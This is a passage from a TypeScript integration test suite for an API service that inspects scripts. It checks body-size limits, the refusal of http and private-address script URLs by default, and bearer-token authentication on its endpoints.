            res.on('end', () => resolve({ status: res.statusCode ?? 0, body: JSON.parse(Buffer.concat(chunks).toString('utf8')) }));
          });
          req.on('error', reject);
          req.write(`{"base": "fedora:39", "script": "`);
          const chunk = 'x'.repeat(64 * 1024);
          for (let i = 0; i < 20; i++) req.write(chunk);
          req.end('"}');
        }),
    );
    expect(r.status).toBe(413);
    expectErrorShape(r.body);
  });
});

// ---------------------------------------------------------------------------------------------

describe('script URLs', () => {
  let server: Server;
  let scriptUrl = '';
  let fetched = 0;
  const scriptText = 'import json\nprint(json.dumps({"from": "url"}))\n';

  beforeAll(async () => {
    server = createServer((req, res) => {
      fetched++;
      if (req.url === '/script.py') res.writeHead(200, { 'content-type': 'text/x-python' }).end(scriptText);
      else res.writeHead(404).end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    scriptUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/script.py`;
  });
  afterAll(async () => {
    await new Promise<void>((r) => server.close(() => r()));
  });

  it('are refused by default: http and a private address both answer 400 at /script, nothing stored or fetched', async () => {
    const h = await startHarnessed();
    try {
      for (const url of [scriptUrl, scriptUrl.replace('http:', 'https:')]) {
        const r = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('url'), script: url }));
        expect({ url, status: r.status }).toEqual({ url, status: 400 });
        expectErrorShape(r.body);
        expect(r.body.problems.map((p: { path: string }) => p.path)).toEqual(['/script']);
      }
      expect(fetched).toBe(0);
    } finally {
      await h.stack.stop();
      h.dir.remove();
    }
  });

  it('are fetched once and stored when the stack allows http and private addresses', async () => {
    const h = await startHarnessed({ allowScriptHttp: true, allowScriptPrivate: true });
    try {
      const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('url'), script: scriptUrl });
      expect(r.status).toBe(202);
      expect(fetched).toBe(1);
      const spec = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${r.body.inspection_id}/specification`);
      // The URL stays the script; what was fetched is recorded beside it (the text is in the build context).
      const fetchedRecord = { url: scriptUrl, sha256: createHash('sha256').update(scriptText).digest('hex'), bytes: Buffer.byteLength(scriptText) };
      expect(spec.body.specification).toMatchObject({ script: scriptUrl, '@script_fetched': fetchedRecord });
      expect(r.body.parameters).toMatchObject({ script: scriptUrl, '@script_fetched': fetchedRecord });
      const missing = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('url'), script: scriptUrl.replace('script.py', 'nothing.py') }));
      expect(missing.status).toBe(400);
      expect(missing.body.problems.map((p: { path: string }) => p.path)).toEqual(['/script']);
    } finally {
      await h.stack.stop();
      h.dir.remove();
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe('AMUN_API_TOKEN', () => {
  let h: Harnessed;

  beforeAll(async () => {
    h = await startHarnessed({ apiToken: 's3cret' });
  });
  afterAll(async () => {
    await h?.stack.stop();
    h?.dir.remove();
  });

  it.each([
    ['no Authorization header', {}],
    ['a wrong token', { authorization: 'Bearer wrong' }],
    ['the token without the scheme', { authorization: 's3cret' }],
    ['a longer token', { authorization: 'Bearer s3cret2' }],
  ] as Array<[string, Record<string, string>]>)('POST with %s → 401, nothing written or queued', async (_name, headers) => {
    for (const path of ['/inspect', '/_debug/generate-dockerfile']) {
      const r = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}${path}`, scriptless('token'), headers));
      expect({ path, status: r.status }).toEqual({ path, status: 401 });
      expectErrorShape(r.body);
    }
  });

  it('POST with the right token → 202; every read needs it too, but /version', async () => {
    const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, scriptless('token'), { authorization: 'Bearer s3cret' });
    expect(r.status).toBe(202);
    const id = r.body.inspection_id as string;
    expect((await api(h.stack.apiUrl, 'POST', `${V1}/_debug/generate-dockerfile`, scriptless('token'), { authorization: 'Bearer s3cret' })).status).toBe(200);
    await waitFor('the build log', async () => ((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/build/log`, undefined, { authorization: 'Bearer s3cret' })).status === 200 ? true : undefined));
    const reads = ['/inspect', `/inspect/${id}/status`, `/inspect/${id}/specification`, `/inspect/${id}/job/batch-size`, `/inspect/${id}/build/log`, `/inspect/${id}/job/0/result`, `/inspect/${id}/job/0/log`, '', '/no/such/endpoint'];
    for (const path of reads) {
      const without = await api(h.stack.apiUrl, 'GET', `${V1}${path}`);
      expect({ path, status: without.status }).toEqual({ path, status: 401 });
      expect(without.text).not.toContain('registry.fedoraproject.org');
      const wrong = await api(h.stack.apiUrl, 'GET', `${V1}${path}`, undefined, { authorization: 'Bearer s3cret-not' });
      expect({ path, status: wrong.status }).toEqual({ path, status: 401 });
      const right = await api(h.stack.apiUrl, 'GET', `${V1}${path}`, undefined, { authorization: 'Bearer s3cret' });
      expect({ path, status: right.status }).not.toEqual({ path, status: 401 });
    }
    expect((await api(h.stack.apiUrl, 'GET', `${V1}/version`)).status).toBe(200);
  });

  it('asks for a Bearer token in WWW-Authenticate', async () => {
    const r = await raw(h.stack.apiUrl, 'POST', `${V1}/inspect`, JSON.stringify(scriptless('token')), { 'content-type': 'application/json' });
    expect(r.status).toBe(401);
    expect(r.headers['www-authenticate']).toBe('Bearer');
  });
});
